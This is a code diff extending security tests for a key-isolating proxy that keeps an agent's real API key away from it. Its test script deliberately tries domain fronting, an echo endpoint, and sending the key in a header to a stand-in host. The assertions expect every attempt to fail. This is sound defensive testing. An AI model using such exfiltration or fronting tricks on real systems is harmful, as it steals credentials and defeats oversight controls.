@@ -37,6 +37,20 @@ function get(opts) {
       'https://api.anthropic.com/v1/messages/count_tokens']).toString();
     console.log('h2\t' + v);
   } catch (e) { console.log('h2\terror'); }
+  // A service that quotes the key back: the agent reads its placeholder, not the key.
+  try {
+    const v = require('child_process').execFileSync('curl', ['-s', '-H', 'x-api-key: ' + key,
+      'https://api.anthropic.com/v1/echo']).toString();
+    console.log('echo\t' + (v.includes(key) ? 'placeholder' : 'other: ' + v.trim()));
+  } catch (e) { console.log('echo\terror'); }
+  // Domain fronting on the intercepted connection: another site's name in Host would get
+  // the key cordon adds; refused (421) before anything is relayed.
+  try {
+    const v = require('child_process').execFileSync('curl', ['-s', '--http1.1', '-o', '/dev/null',
+      '-w', '%{http_code}', '-H', 'Host: fronted.example', '-H', 'x-api-key: ' + key,
+      'https://api.anthropic.com/v1/models']).toString();
+    console.log('fronting\t' + v);
+  } catch (e) { console.log('fronting\terror'); }
   // The placeholder carried to another allowed host, in a header and in a name.
   console.log('exfil_header\t' + await get({ host: 'other.fixture.test', port: Number(process.argv[2]), path: '/', headers: { 'x-token': key } }));
   console.log('plain_request\t' + await get({ host: 'other.fixture.test', port: Number(process.argv[2]), path: '/' }));
@@ -90,6 +104,8 @@ fn the_agent_holds_a_placeholder_and_the_real_key_reaches_only_its_host() {
     assert_eq!(r["key_is_placeholder"], "true", "{r:?}");
     assert_eq!(r["reply"], "stand-in got the real key", "{r:?}\n{err}");
     assert_eq!(r["h2"], "2 200", "{r:?}");
+    assert_eq!(r["fronting"], "421", "{r:?}");
+    assert_eq!(r["echo"], "placeholder", "{r:?}");
     assert!(r["exfil_header"].starts_with("error:"), "{r:?}");
     assert_eq!(r["plain_request"], "status:200", "{r:?}");
     assert!(r["exfil_dns"].starts_with("error:"), "{r:?}");
